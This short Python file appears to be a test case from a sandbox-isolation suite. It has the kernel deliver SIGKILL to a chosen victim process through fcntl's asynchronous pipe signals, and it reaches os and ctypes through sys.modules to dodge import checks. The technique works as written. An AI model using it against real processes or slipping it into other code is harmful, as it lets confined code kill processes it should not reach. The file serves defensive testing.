# C34: has the kernel send a signal of its choice when a pipe can be read
# Without layers: succeeds
import struct
import sys

os = sys.modules["os"]

SETSIG, SETOWN_EX, SETFL, ASYNC, PROCESS = 10, 15, 4, 0o20000, 1


def attack(facts):
    libc = sys.modules["ctypes"].CDLL(None)
    reader, writer = os.pipe()
    libc.fcntl(reader, SETOWN_EX, struct.pack("ii", PROCESS, facts["victim"]))
    libc.fcntl(reader, SETSIG, 9)
    libc.fcntl(reader, SETFL, ASYNC)
    os.write(writer, b"now")
